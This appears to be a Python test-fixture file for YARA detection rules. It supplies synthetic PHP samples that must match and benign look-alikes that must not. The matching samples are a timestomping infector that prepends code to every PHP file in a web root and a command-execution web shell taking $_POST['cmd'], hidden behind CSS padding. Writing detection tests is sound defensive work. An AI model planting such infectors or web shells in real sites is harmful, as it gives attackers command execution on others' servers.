"""Must-hit / near-miss samples for the issue-4f rules in `signatures/shells.yar` and `families.yar`.

Small synthetic PHP written for the tests; no corpus excerpts. The near-miss is the legitimate
look-alike: a template compiler that walks a directory of .php templates, writes compiled
cache files and stamps them with the source mtime.
"""

from __future__ import annotations

INFECTOR = (
    b"<?php\n$payload = 'echo 1;';\n"
    b"foreach (glob($_SERVER['DOCUMENT_ROOT'] . '/*.php') as $f) {\n"
    b"  $st = stat($f);\n  $code = file_get_contents($f);\n"
    b"  $code = '<?php ' . $payload . ' ?>' . $code;\n"
    b"  file_put_contents($f, $code);\n  touch($f, $st['mtime']);\n}\n"
)
INFECTOR_NEAR = (
    b"<?php\nforeach (glob($dir . '/*.php') as $tpl) {\n"
    b"  $src = file_get_contents($tpl);\n  $out = $cacheDir . '/' . md5($tpl) . '.php';\n"
    b"  file_put_contents($out, '<?php return ' . var_export(compile($src), true) . ';');\n"
    b"  touch($out, filemtime($tpl));\n}\n"
)

CSS = "".join(f".c{i} {{ margin: {i % 7}px; }}\n" for i in range(700))
FALLBACK_BODY = (
    "function run($c) {\n"
    "  if (function_exists('system')) { ob_start(); system($c); return ob_get_clean(); }\n"
    "  if (function_exists('shell_exec')) return shell_exec($c);\n"
    "  if (function_exists('exec')) { exec($c, $o); return implode(\"\\n\", $o); }\n}\n"
)
FALLBACK_INPUT = (
    "<?php\n?>\n<style>\n"
    + CSS
    + "</style>\n<?php\n"
    + FALLBACK_BODY
    + "echo '<pre>' . run($_POST['cmd']) . '</pre>';\n"
).encode()
FALLBACK_NEAR = (
    "<?php\n?>\n<style>\n"
    + CSS
    + "</style>\n<?php\n"
    + FALLBACK_BODY
    + "$page = (int) ($_GET['page'] ?? 1);\necho '<pre>' . run('uptime') . '</pre>';\n"
).encode()

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_SHELL_TimestompedInfector", INFECTOR, True),
    ("SPAMGEAR_SHELL_TimestompedInfector", INFECTOR_NEAR, False),
    ("SPAMGEAR_FAMILY_ExecFallbackOfInput", FALLBACK_INPUT, True),
    ("SPAMGEAR_FAMILY_ExecFallbackOfInput", FALLBACK_NEAR, False),
]
